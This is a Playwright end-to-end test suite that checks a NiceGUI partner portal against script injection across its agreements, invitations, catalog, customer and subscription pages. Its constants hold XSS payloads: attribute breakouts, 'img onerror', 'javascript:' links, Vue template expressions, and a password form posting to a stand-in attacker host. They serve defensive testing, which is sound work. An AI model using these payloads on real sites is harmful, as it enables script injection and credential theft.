"""Every page and dialog walked in real Chromium with hostile text in every field that can reach it: quotes that
close an attribute, ``:``-props that NiceGUI would evaluate as JavaScript, ``<img onerror>``, backticks,
``${}``, Vue's ``{{ }}``, raw HTML and ``javascript:`` links in agreement Markdown, and a hostile user agent in the
signing evidence. No script may run: each payload would set ``window.__p`` or open an ``alert``."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, FilePayload, Page, expect

from portal_testing.launch import Server, sign_in
from tests.e2e.distributor import close_link_dialog, emailed_link, note_and_dismiss, unique_email
from tests.e2e.portal import activate, choose_hubs, fill_general, next_step, register_hub
from tests.e2e.portal import dialog as open_dialog
from tests.e2e.wizard import Wizard

# Each payload tries another way out of a props string or into markup; each would set window.__p.
BREAK_OUT = 'Evil" :data-x="window.__p=1" title="A'
PROP = '" :title="window.__p=2" x="'
TAG = "<img src=x onerror=window.__p=3>"
TEMPLATE = "`${window.__p=4}` {{window.__p=5}}"
CLOSE = "</script><script>window.__p=6</script>"


def hostile(*extra: str) -> str:
    return " ".join((BREAK_OUT, PROP, TAG, TEMPLATE, CLOSE, *extra))


COMPANY = hostile("Inc")  # a legal name needs its entity type
PERSON = hostile("Mallory")
NOTE = hostile("\nSecond line")
TITLE = hostile("Terms")
DISTRIBUTOR = hostile("LLC")
AGREEMENT = f"""# {TITLE}

<script>window.__p=7</script>
<img src="x" onerror="window.__p=8">
<a href="javascript:window.__p=9">click</a> [click too](javascript:window.__p=10)
<style>.q-stepper {{ display: none }}</style>
<form action="https://evil.example"><input type="password" name="p"></form>
![tracker](https://evil.example/pixel.png)
[a real link](https://example.com/terms) {TEMPLATE}
"""
USER_AGENT = f"Mozilla/5.0 {hostile()}"
HUB_NAME = f"{BREAK_OUT} {TAG}"  # names and IDs have at most 100 characters: a part of the payload each
INSTANCE_ID = f"{PROP} {TEMPLATE}"
MARKETPLACE = f"{TEMPLATE} {CLOSE}"
EXTERNAL_ID = f"{CLOSE} {PROP}"
REASON = hostile("\nBreach of clause 4")


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    running = Server(tmp_path_factory.mktemp("hostile"))
    running.start()
    yield running
    running.stop()


class Watched:
    """A browser context whose every page fails the test if a script of ours did not write ran."""

    def __init__(self, browser: Browser, **options: object) -> None:
        self.context: BrowserContext = browser.new_context(**options)  # type: ignore[arg-type]  # Playwright's own keyword options
        self.alerts: list[str] = []
        self.context.on("page", self._watch)

    def _watch(self, page: Page) -> None:
        page.on("dialog", lambda dialog: note_and_dismiss(self.alerts, dialog))

    def page(self) -> Page:
        return self.context.new_page()

    def check(self, page: Page, where: str) -> None:
        page.wait_for_load_state()
        pwned = page.evaluate("window.__p")
        assert pwned is None and self.alerts == [], f"script ran on {where}: {pwned!r} {self.alerts}"
        assert page.locator(".nicegui-content img, .q-dialog img").count() == 0, f"an image on {where}"


def test_no_script_runs_from_anyones_text_on_any_page_or_dialog(hostile_server: Server, browser: Browser) -> None:
    server = hostile_server
    desk_user = server.distributor_user(unique_email("hostile-desk"), distributor=DISTRIBUTOR)
    desk = Watched(browser, user_agent=USER_AGENT)
    page = desk.page()
    sign_in(page, server.base_url, desk_user)
    expect(page.get_by_role("heading", name="Invitations")).to_be_visible()
    desk.check(page, "the invitations page")

    # Agreements: create one with a hostile title and text, preview it, publish, view it, open the editor again.
    page.get_by_role("link", name="Agreements", exact=True).click()
    page.get_by_role("button", name="Create agreement").click()
    editor = page.get_by_role("dialog")
    editor.get_by_label("Title").fill(TITLE)
    editor.get_by_label("Agreement text (Markdown)").fill(AGREEMENT)
    editor.get_by_role("tab", name="Preview").click()
    preview = editor.locator(".agreement-text")
    expect(preview.get_by_role("link", name="a real link")).to_have_attribute("rel", "noopener noreferrer")
    expect(preview.get_by_text("<script>window.__p=7</script>")).to_be_visible()  # shown, not run
    assert preview.locator("script, style, form, input, img, iframe").count() == 0
    assert preview.locator("a[href^='javascript']").count() == 0
    desk.check(page, "the agreement editor's preview")
    editor.get_by_role("button", name="Publish").click()
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_role("heading", name=TITLE, exact=True)).to_be_visible()
    desk.check(page, "the agreements page")
    page.get_by_role("button", name=f"View version 1 of {TITLE}").click()
    expect(page.get_by_role("dialog").get_by_role("link", name="a real link")).to_be_visible()
    desk.check(page, "the agreement viewer")
    page.get_by_role("dialog").get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Publish new version").first.click()
    expect(page.get_by_role("dialog")).to_be_visible()
    desk.check(page, "the publish dialog")
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()

    # Invitations: create with a hostile company and note on the hostile agreement, revoke dialog, details.
    page.get_by_role("link", name="Invitations", exact=True).click()
    page.get_by_role("button", name="Create invitation").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Company name (optional)").fill(COMPANY)
    dialog.get_by_label("Note to signee (optional)").fill(NOTE)
    dialog.get_by_label("Agreement version").click()
    page.get_by_role("option", name=f"{TITLE}, version 1 (latest)").click()
    desk.check(page, "the create invitation dialog")
    dialog.get_by_role("button", name="Create", exact=True).click()
    link = page.get_by_role("dialog").get_by_label("Link")
    expect(link).to_have_value(re.compile("/activate/"))
    activation_url = link.input_value()
    desk.check(page, "the new link dialog")
    close_link_dialog(page)
    row = page.locator("tr", has_text="Evil").first
    row.get_by_role("button", name="Revoke").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Revoke the invitation for {COMPANY}?")
    desk.check(page, "the revoke dialog")
    page.get_by_role("button", name="Cancel").click()
    row.get_by_role("link", name="Details").click()
    expect(page.get_by_text(COMPANY, exact=True)).to_be_visible()
    desk.check(page, "the invitation details")

    # Partners: create a reseller account with hostile names, open it, the remove dialog.
    page.get_by_role("link", name="Partners", exact=True).click()
    page.get_by_role("button", name="Create reseller account").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Reseller's legal name").fill(COMPANY)
    dialog.get_by_label("Representative's full name").fill(PERSON)
    dialog.get_by_label("Representative's email").fill(unique_email("hostile-rep"))
    dialog.get_by_role("button", name="Create", exact=True).click()
    expect(page.get_by_role("dialog").get_by_label("Link")).to_have_value(re.compile("/set-password/"))
    set_password_url = page.get_by_role("dialog").get_by_label("Link").input_value()
    close_link_dialog(page)
    page.get_by_role("link", name=COMPANY).first.click()
    page.get_by_role("button", name="Remove reseller account").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute(
        "aria-label", f"Remove the reseller account of {COMPANY}?"
    )
    desk.check(page, "the remove dialog")
    page.get_by_role("button", name="Cancel").click()

    # The reseller: every step with hostile text, from a browser with a hostile user agent.
    reseller = Watched(browser, user_agent=USER_AGENT)
    walk = reseller.page()
    walk.goto(activation_url)
    expect(walk.get_by_text("Second line", exact=False)).to_be_visible()
    expect(walk.get_by_role("heading", name=f"{TITLE} (version 1)")).to_be_visible()
    reseller.check(walk, "step 1 (note, agreement, distributor)")
    wizard = Wizard(walk)
    wizard.agree(unique_email("hostile-reseller"))
    wizard.user_properties(full_name=PERSON)
    wizard.company(COMPANY)
    reseller.check(walk, "the review step")
    wizard.sign_and_activate(COMPANY)
    expect(walk.get_by_role("heading", name=COMPANY)).to_be_visible()
    reseller.check(walk, "the portal")

    # Chapter 2: hostile text in every field of the hub dialog and the marketplace wizard (names have at most 100
    # characters, so each takes a part of the payload).
    walk.get_by_role("navigation", name="Main").get_by_role("link", name="Marketplace").click()
    register_hub(walk, name=HUB_NAME, instance_id=INSTANCE_ID, description=NOTE)
    expect(walk.get_by_text(INSTANCE_ID, exact=True)).to_be_visible()
    reseller.check(walk, "the hubs list")
    walk.get_by_role("button", name=f"Edit hub {HUB_NAME}").click()
    expect(open_dialog(walk).get_by_label("Instance ID")).to_have_value(INSTANCE_ID)
    reseller.check(walk, "the edit hub dialog")
    open_dialog(walk).get_by_role("button", name="Cancel").click()
    walk.get_by_role("button", name="Create marketplace").click()
    fill_general(
        walk, name=MARKETPLACE, description=NOTE, currency=("euro", "EUR — Euro"), countries=[("Germany", "Germany")]
    )
    next_step(walk, "Step 2 of 3 — Hubs")
    reseller.check(walk, "the wizard's hubs step")
    choose_hubs(walk, {HUB_NAME: EXTERNAL_ID})
    next_step(walk, "Step 3 of 3 — Summary")
    expect(open_dialog(walk).get_by_text(f"{HUB_NAME}: tier account {EXTERNAL_ID}", exact=True)).to_be_visible()
    reseller.check(walk, "the wizard's summary")
    open_dialog(walk).get_by_role("button", name="Create", exact=True).click()
    expect(walk.get_by_role("dialog")).to_have_count(0)
    expect(walk.get_by_text(MARKETPLACE, exact=True)).to_be_visible()
    reseller.check(walk, "the marketplaces list")
    walk.get_by_role("button", name=f"Delete hub {HUB_NAME}").click()
    expect(walk.get_by_role("alert").filter(has_text="cannot be deleted")).to_contain_text(MARKETPLACE)
    reseller.check(walk, "the refused hub deletion")
    walk.get_by_role("button", name=f"Edit marketplace {MARKETPLACE}").click()
    expect(open_dialog(walk).get_by_label("Name", exact=True)).to_have_value(MARKETPLACE)
    reseller.check(walk, "the edit marketplace wizard")
    open_dialog(walk).get_by_role("button", name="Cancel").click()
    walk.get_by_role("navigation", name="Main").get_by_role("link", name="Overview").click()
    expect(walk.get_by_role("heading", name="Getting started")).to_be_visible()
    reseller.check(walk, "the overview with chapter 2 done")
    walk.goto(f"{server.base_url}/portal/contract")
    expect(walk.get_by_text(USER_AGENT, exact=True)).to_be_visible()
    reseller.check(walk, "the contract page")

    # The representative's set-password page shows the hostile names and the hostile agreement.
    representative = Watched(browser)
    rep_page = representative.page()
    rep_page.goto(set_password_url)
    expect(rep_page.get_by_role("heading", name=f"Welcome, {PERSON}")).to_be_visible()
    representative.check(rep_page, "the set-password page")

    # Back at the desk: the activated partner, its evidence (hostile user agent), the terminate dialog.
    page.get_by_role("link", name="Partners", exact=True).click()
    page.locator("tr", has_text="Active").get_by_role("link", name=COMPANY).click()
    expect(page.get_by_text(USER_AGENT, exact=True)).to_be_visible()
    desk.check(page, "the partner's evidence")
    page.get_by_role("button", name="Terminate contract").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Terminate the contract with {COMPANY}?")
    expect(page.get_by_text(EXTERNAL_ID, exact=False)).to_be_visible()  # the partner's hubs and marketplaces
    desk.check(page, "the terminate dialog")
    page.get_by_role("alertdialog").get_by_label("Reason for termination").fill(REASON)
    page.get_by_role("button", name="Terminate", exact=True).click()
    expect(page.get_by_text("Terminated at")).to_be_visible()
    expect(page.get_by_text(REASON, exact=True)).to_be_visible()
    desk.check(page, "the terminated partner")
    walk.reload()
    expect(walk.get_by_role("heading", name="Your service contract was terminated")).to_be_visible()
    expect(walk.get_by_text(REASON, exact=True)).to_be_visible()
    reseller.check(walk, "the contract page after termination")
    for watched in (desk, reseller, representative):
        watched.context.close()


def test_no_script_runs_from_names_on_the_account_and_email_pages(hostile_server: Server, browser: Browser) -> None:
    server = hostile_server
    desk_user = server.distributor_user(unique_email("hostile-account"), distributor=DISTRIBUTOR)
    desk = Watched(browser)
    page = desk.page()
    sign_in(page, server.base_url, desk_user)
    expect(page.get_by_role("heading", name="Invitations")).to_be_visible()

    page.get_by_role("link", name="Account").click()
    page.get_by_label("Full name", exact=True).fill(PERSON)
    page.get_by_role("button", name="Save name").click()
    expect(page.get_by_text("Your name was saved.").first).to_be_visible()
    page.reload()
    expect(page.get_by_label("Full name", exact=True)).to_have_value(PERSON)
    desk.check(page, "account settings")

    colleague = unique_email("hostile-colleague")
    page.get_by_role("link", name="Users", exact=True).click()
    page.get_by_role("button", name="Invite a colleague").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Full name").fill(hostile("Colleague"))
    dialog.get_by_label("Email").fill(colleague)
    desk.check(page, "the invite a colleague dialog")
    dialog.get_by_role("button", name="Send invitation").click()
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_text(hostile("Colleague"), exact=True)).to_be_visible()
    desk.check(page, "the users page")
    page.get_by_role("button", name=f"Deactivate {hostile('Colleague')}").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Deactivate {hostile('Colleague')}?")
    desk.check(page, "the deactivate dialog")
    page.get_by_role("button", name="Cancel").click()

    page.get_by_role("link", name="Invitations", exact=True).click()
    page.get_by_role("button", name="Create invitation").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Invitee email (optional)").fill(unique_email("hostile-invitee"))
    dialog.get_by_label("Company name (optional)").fill(COMPANY)
    dialog.get_by_label("Note to signee (optional)").fill(NOTE)
    dialog.get_by_role("button", name="Create", exact=True).click()
    expect(page.get_by_role("dialog").get_by_label("Link")).to_have_value(re.compile("/activate/"))
    desk.check(page, "the new link dialog, sent by email")
    close_link_dialog(page)
    page.locator("tr", has_text="Evil").first.get_by_role("link", name="Details").click()
    expect(page.get_by_role("heading", name="Emails")).to_be_visible()
    page.get_by_role("button", name="Resend").click()
    expect(page.get_by_role("alertdialog")).to_be_visible()
    desk.check(page, "the resend dialog")
    page.get_by_role("button", name="Cancel").click()

    newcomer = Watched(browser)
    link_page = newcomer.page()
    link_page.goto(emailed_link(server.data_dir, colleague, "reset-password"))
    expect(link_page.get_by_text(hostile("Colleague"), exact=False).first).to_be_visible()
    newcomer.check(link_page, "the colleague's choose-a-password page")
    for watched in (desk, newcomer):
        watched.context.close()


SHORT = " ".join((PROP, TAG, TEMPLATE))  # under the 100 characters of a category or an MPN
UNIT = TAG + " Seats"  # under the 50 characters of a unit


def test_no_script_runs_from_a_products_text_on_the_catalog_pages_and_dialogs(
    hostile_server: Server, browser: Browser
) -> None:
    """Chapter 3: every field of a product, an item and a price, the CSV import's messages (which quote the file),
    the confirmation dialogs that name the product, and the product's Markdown description."""
    server = hostile_server
    desk = Watched(browser, user_agent=USER_AGENT)
    page = desk.page()
    sign_in(page, server.base_url, server.distributor_user(unique_email("hostile-catalog")))
    expect(page.get_by_role("heading", name="Invitations")).to_be_visible()
    page.get_by_role("link", name="Products", exact=True).click()
    page.get_by_role("button", name="Create product").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Name").fill(TITLE)
    dialog.get_by_label("Category").fill(SHORT)
    dialog.get_by_label("Short description").fill(hostile("Short"))
    dialog.get_by_label("Description (Markdown)").fill(AGREEMENT)
    desk.check(page, "the create product dialog")
    dialog.get_by_role("button", name="Create", exact=True).click()
    expect(page.get_by_role("heading", name=TITLE, exact=True)).to_be_visible()
    description = page.get_by_role("region", name="Product description")
    expect(description.get_by_role("link", name="a real link")).to_have_attribute("rel", "noopener noreferrer")
    expect(description.get_by_text("<script>window.__p=7</script>")).to_be_visible()  # shown, not run
    assert description.locator("script, style, form, input, img, iframe, a[href^='javascript']").count() == 0
    expect(page.get_by_text(SHORT, exact=True)).to_be_visible()
    desk.check(page, "the product page")

    page.get_by_role("button", name="Add item").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("MPN").fill(SHORT)
    dialog.get_by_label("Item name").fill(PERSON)
    dialog.get_by_label("Unit", exact=True).fill(UNIT)
    dialog.get_by_label("Currency").fill(TAG)
    dialog.get_by_label("Cost").fill(TEMPLATE)
    dialog.get_by_label("MSRP").fill(PROP)
    dialog.get_by_role("button", name="Add item").click()
    expect(dialog.locator(".portal-error-summary")).to_be_visible()  # refused, with messages that quote nothing
    desk.check(page, "the add item dialog with errors")
    dialog.get_by_label("Currency").fill("USD")
    dialog.get_by_label("Cost").fill("1")
    dialog.get_by_label("MSRP").fill("2")
    dialog.get_by_role("button", name="Add item").click()
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(page.get_by_role("cell", name=PERSON, exact=True)).to_be_visible()
    expect(page.get_by_role("cell", name=UNIT, exact=True)).to_be_visible()
    desk.check(page, "the product's items and prices")
    page.get_by_role("button", name=f"Edit item {SHORT}").click()
    expect(page.get_by_role("dialog")).to_have_attribute("aria-label", f"Edit item {SHORT}")
    desk.check(page, "the edit item dialog")
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name=f"Remove the USD price of item {SHORT}").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Remove the USD price of {SHORT}?")
    desk.check(page, "the remove price dialog")
    page.get_by_role("alertdialog").get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Edit product").click()
    expect(page.get_by_role("dialog").get_by_label("Description (Markdown)")).to_have_value(AGREEMENT.strip())
    desk.check(page, "the edit product dialog")
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Publish").click()
    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Publish {TITLE}?")
    desk.check(page, "the publish dialog")
    page.get_by_role("alertdialog").get_by_role("button", name="Publish").click()
    expect(page.get_by_role("button", name="End sale")).to_be_visible()

    page.get_by_role("link", name="← All products").click()
    expect(page.get_by_role("link", name=TITLE)).to_be_visible()
    desk.check(page, "the products list")
    page.get_by_role("button", name="Import CSV").click()
    dialog = page.get_by_role("dialog")
    rows = io.StringIO()
    csv.writer(rows).writerows([[BREAK_OUT, "product_name"], [TAG, CLOSE]])
    hostile_csv = rows.getvalue().encode()
    dialog.get_by_label("CSV file").set_input_files(
        files=[FilePayload(name="hostile.csv", mimeType="text/csv", buffer=hostile_csv)]
    )
    expect(dialog.get_by_text("Chosen: hostile.csv")).to_be_visible()
    dialog.get_by_role("button", name="Import", exact=True).click()
    expect(dialog.get_by_text(re.compile("Unknown columns: Evil"))).to_be_visible()  # the file's text, quoted
    desk.check(page, "the import dialog's wrong lines")
    open_dialog(page).get_by_role("button", name="Cancel").click()

    # The reseller's catalog shows the published product and its page; a marketplace with a hostile name.
    reseller = Watched(browser, user_agent=USER_AGENT)
    walk = reseller.page()
    activate(
        walk, server.invite("--company", "Catalog Reader Inc"), unique_email("hostile-reader"), "Catalog Reader Inc"
    )
    walk.goto(f"{server.base_url}/marketplace")
    register_hub(walk, name="Reader shop", instance_id="reader-shop")
    walk.get_by_role("button", name="Create marketplace").click()
    fill_general(walk, name=MARKETPLACE, currency=("dollar", "USD — US Dollar"), countries=[("Canada", "Canada")])
    next_step(walk, "Step 2 of 3 — Hubs")
    choose_hubs(walk, {"Reader shop": "TA-1"})
    next_step(walk, "Step 3 of 3 — Summary")
    open_dialog(walk).get_by_role("button", name="Create", exact=True).click()
    expect(walk.get_by_role("dialog")).to_have_count(0)
    walk.goto(f"{server.base_url}/catalog")
    expect(walk.get_by_role("heading", name=SHORT, exact=True)).to_be_visible()  # the category
    expect(walk.get_by_role("link", name=TITLE)).to_be_visible()
    reseller.check(walk, "the reseller's catalog")
    walk.get_by_label("Search").fill(TEMPLATE)
    walk.get_by_role("button", name="Search").click()
    expect(walk.get_by_role("link", name=TITLE)).to_be_visible()
    reseller.check(walk, "the reseller's catalog searched with hostile text")
    walk.get_by_role("link", name=TITLE).click()
    description = walk.get_by_role("region", name="Product description")
    expect(description.get_by_text("<script>window.__p=7</script>")).to_be_visible()
    assert description.locator("script, style, form, input, img, iframe, a[href^='javascript']").count() == 0
    expect(walk.get_by_role("cell", name=PERSON, exact=True)).to_be_visible()
    reseller.check(walk, "the reseller's product page")
    walk.get_by_role("button", name="Enroll").click()
    box = walk.get_by_role("dialog")
    expect(box).to_have_attribute("aria-label", f"Enroll {TITLE}")
    reseller.check(walk, "the enroll dialog")
    box.get_by_role("checkbox", name="I have read and accepted the agreement").click()
    box.get_by_role("button", name="Enroll").click()
    expect(walk.get_by_role("dialog")).to_have_count(0)

    # The distributor's contracts show the hostile product and marketplace; a hostile reason reaches the reseller.
    page.get_by_role("link", name="Contracts", exact=True).click()
    row = page.get_by_role("row").filter(has_text="Catalog Reader Inc")
    expect(row).to_contain_text(MARKETPLACE)
    desk.check(page, "the contracts list")
    row.get_by_role("button", name="Reject").click()
    expect(page.get_by_role("dialog")).to_have_attribute("aria-label", f"Reject {TITLE} for Catalog Reader Inc")
    page.get_by_role("dialog").get_by_label("Reason").fill(NOTE)
    desk.check(page, "the reject dialog")
    page.get_by_role("dialog").get_by_role("button", name="Reject").click()
    expect(row).to_contain_text("Rejected")
    desk.check(page, "the contracts list with a hostile reason")
    walk.reload()
    expect(walk.get_by_text("Second line", exact=False)).to_be_visible()
    reseller.check(walk, "the product page with a hostile rejection reason")
    walk.goto(f"{server.base_url}/catalog/listings")
    reseller.check(walk, "my listings")
    reseller.context.close()
    desk.context.close()


def test_no_script_runs_from_chapter_4_text(hostile_server: Server, browser: Browser) -> None:
    """Chapter 4: a customer typed with hostile text in every field of Create customer, shown in the directory, on
    its page and in Edit; a distributor's hostile question, the reseller's hostile answer typed in the browser,
    and a hostile message and reason, on the subscription's page and the request's page."""
    from data.models.subscription import request_id
    from portal_testing.chapter4 import ITEM_A, World, email_of
    from services.distributor import fulfilment as queue
    from services.portal import subscriptions

    server = hostile_server
    portal = server.portal()
    world = World(portal, "-hostile")
    reseller = Watched(browser)
    page = reseller.page()
    sign_in(page, server.base_url, email_of(portal, world.reseller))
    expect(page.get_by_role("heading", name="Getting started")).to_be_visible()
    page.goto(f"{server.base_url}/customers")
    page.get_by_role("button", name="Create customer").click()
    box = open_dialog(page)
    typed = {
        "Company name": COMPANY,
        "External ID (optional)": EXTERNAL_ID,
        "Tax ID (optional)": BREAK_OUT,
        "Address line 1": hostile(),
        "Address line 2 (optional)": hostile(),
        "City": HUB_NAME,
        "State or region (optional)": INSTANCE_ID,
        "Postal code": PROP[:20],
        "First name (optional)": MARKETPLACE,
        "Last name (optional)": TAG,
        "Email": "mallory@evil.example",
    }
    for label, value in typed.items():
        box.get_by_label(label, exact=True).fill(value)
    box.get_by_label("Country", exact=True).click()
    box.get_by_label("Country", exact=True).fill("Germany")
    page.get_by_role("option", name="Germany", exact=True).click()
    box.get_by_role("button", name="Create", exact=True).click()
    expect(page.get_by_role("heading", name=COMPANY)).to_be_visible()
    reseller.check(page, "the hostile customer's page")
    page.get_by_role("button", name="Edit").click()
    expect(open_dialog(page).get_by_label("Company name")).to_have_value(COMPANY)
    reseller.check(page, "the hostile customer's edit dialog")
    open_dialog(page).get_by_role("button", name="Cancel").click()
    page.goto(f"{server.base_url}/customers")
    expect(page.get_by_role("link", name=COMPANY)).to_be_visible()
    reseller.check(page, "the directory")

    subscription = world.order()
    purchase = request_id(subscription, 1)
    queue.inquire_request(portal.uow(), world.distributor, purchase, question=NOTE)
    page.goto(f"{server.base_url}/subscriptions/{subscription}")
    expect(page.get_by_role("heading", name="Your distributor asks")).to_be_visible()
    page.get_by_label("Your answer").fill(NOTE)
    page.get_by_role("button", name="Send answer").click()
    expect(page.get_by_role("heading", name="Your distributor asks")).to_have_count(0)
    queue.approve_request(portal.uow(), world.distributor, purchase, message=NOTE)
    change = subscriptions.change_quantities(portal.uow(), world.reseller, subscription, quantities={ITEM_A: 4})
    queue.fail_request(portal.uow(), world.distributor, change, reason=REASON)
    page.reload()
    expect(page.get_by_text("Reason:", exact=False).first).to_be_visible()
    reseller.check(page, "the subscription with hostile question, answer, message and reason")

    # An order typed in the dialog with a hostile External ID, shown in the summary, the list and its page.
    from portal_testing.chapter4 import listed_product

    listed_product(portal, world.reseller, world.distributor, " hostile")
    page.goto(f"{server.base_url}/subscriptions")
    page.get_by_role("button", name="Create subscription").click()
    box = open_dialog(page)
    for label, option in (
        ("Customer", "Acme Widgets (ACME-1)"),
        ("Marketplace", "North America hostile (USD)"),
        ("Product", "Ledgerly Books hostile"),
    ):
        box.get_by_label(label, exact=True).click()
        page.get_by_role("option", name=option, exact=True).click()
    box.get_by_label("Quantity of Monthly seat").fill("1")
    box.get_by_label("External ID (optional)").fill(EXTERNAL_ID)
    box.get_by_role("button", name="Review order").click()
    expect(box.get_by_text(EXTERNAL_ID, exact=True)).to_be_visible()
    reseller.check(page, "the order's summary")
    box.get_by_role("button", name="Place order").click()
    expect(page.get_by_text(EXTERNAL_ID, exact=True)).to_be_visible()
    reseller.check(page, "the hostile order's page")

    desk = Watched(browser)
    desk_page = desk.page()
    sign_in(desk_page, server.base_url, email_of(portal, world.distributor))
    expect(desk_page.get_by_role("button", name="Create invitation")).to_be_visible()
    desk_page.goto(f"{server.base_url}/distributor/fulfilment/{purchase}")
    expect(desk_page.get_by_text("Reseller's answer")).to_be_visible()
    desk.check(desk_page, "the request with hostile question, answer and message")
    desk_page.goto(f"{server.base_url}/distributor/fulfilment")
    expect(desk_page.get_by_role("link", name=change)).to_be_visible()
    desk.check(desk_page, "the queue")
    for watched in (desk, reseller):
        watched.context.close()
    portal.engine.dispose()
